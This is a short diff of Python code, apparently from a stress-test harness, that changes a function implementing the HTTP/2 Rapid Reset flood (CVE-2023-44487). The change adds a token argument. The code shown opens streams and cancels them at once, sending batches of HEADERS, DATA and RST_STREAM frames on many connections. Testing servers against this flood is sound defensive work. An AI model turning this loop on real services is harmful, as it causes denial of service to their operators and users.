@@ -108,7 +108,7 @@ def answers_not_taken(port, connections, token):
     return attack
 
 
-def resets(port, connections, calls):
+def resets(port, connections, calls, token):
     """Opens calls and cancels them at once (CVE-2023-44487), so many on each connection."""
     attack = Attack()
     attack.made = 0
@@ -125,7 +125,7 @@ def resets(port, connections, calls):
                     stream = connection.next_stream
                     connection.next_stream += 2
                     frames.append(http2.frame(http2.HEADERS, http2.END_HEADERS, stream,
-                                              http2.headers_of(LIST, "everything")))
+                                              http2.headers_of(LIST, token)))
                     frames.append(http2.frame(http2.DATA, http2.END_STREAM, stream, body))
                     frames.append(http2.frame(http2.RST_STREAM, 0, stream, http2.CANCEL))
                 connection.socket.sendall(b"".join(frames))
